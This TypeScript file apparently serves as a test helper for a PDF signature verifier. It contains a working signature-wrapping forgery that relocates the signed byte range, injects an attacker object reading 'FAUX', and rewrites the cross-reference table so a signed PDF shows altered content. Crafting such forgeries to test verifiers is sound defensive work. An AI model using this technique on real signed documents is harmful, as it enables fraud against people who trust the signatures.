import { latinBytes } from "../src/pdf/incremental-update.ts";
import { latin } from "./forge.ts";

const ROOM = "@".repeat(24);
const EVIL =
  "4 0 obj\n<</Length 35>>\nstream\nBT /F1 24 Tf 72 700 Td (FAUX) Tj ET\nendstream\nendobj\n";

/**
 * Moves the second signed piece to the end and fills the hole: the signed `startxref` leads to the
 * attacker's table. `padding`: the filling.
 */
export function wrapped(
  bytes: Uint8Array,
  padding: "plain" | "spaces" | "zeros" | "comment",
): Uint8Array {
  const text = latin(bytes);
  const range = /\/ByteRange\[0 (\d+) +(\d+) +(\d+) *\]/.exec(
    text.slice(text.lastIndexOf("/ByteRange")),
  );
  const [from, to] = [Number(range?.[1]), Number(range?.[2])];
  const start = Number(/startxref\n(\d+)\n%%EOF\n$/.exec(text)?.[1]);
  const previous = /\/Prev (\d+)/.exec(text.slice(text.lastIndexOf("trailer")))?.[1];
  const number = text
    .slice(0, text.lastIndexOf("/ByteRange"))
    .match(/(\d+) 0 obj/g)
    ?.at(-1)
    ?.split(" ")[0];
  const dress = { plain: "", spaces: " ".repeat(64), zeros: "0".repeat(64), comment: "%" }[padding];
  const value = text.slice(from, to);
  const contents = padding === "zeros" ? `${value.slice(0, -1)}${dress}>` : value;
  let hole = `${contents}${padding === "zeros" ? "" : dress}\n>>\nendobj\n`;
  const evilAt = from + hole.length;
  hole = `${hole}${EVIL}`.padEnd(start - from);
  if (from + hole.length !== start) throw new Error("no room for the hole");
  const rows = text
    .slice(start + 5, text.lastIndexOf("trailer"))
    .replace(new RegExp(`(?:^|\\n)${number} 1\\n.{18}\\r\\n`), "\n");
  const table = (signatureAt: number): string =>
    `xref\n${rows.trim()}\r\n4 1\n${row(evilAt)}${number} 1\n${row(signatureAt)}trailer\n<</Size 99/Root 1 0 R/Prev ${previous}>>\nstartxref\n${start}\n%%EOF\n`;
  hole += table(start + table(0).length);
  // The second dictionary claims the moved piece, whose offset is known last: its room is fixed.
  hole += `${number} 0 obj\n<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/ByteRange[0 ${from} ${ROOM}]/Contents${value}>>\nendobj\n`;
  return moved({ text, hole, from, to });
}

const row = (offset: number): string => `${String(offset).padStart(10, "0")} 00000 n\r\n`;

type Move = {
  readonly text: string;
  readonly hole: string;
  readonly from: number;
  readonly to: number;
};

function moved({ text, hole, from, to }: Move): Uint8Array {
  const filled = hole.replace(
    ROOM,
    `${from + hole.length} ${text.length - to}`.padEnd(ROOM.length),
  );
  return latinBytes(text.slice(0, from) + filled + text.slice(to));
}
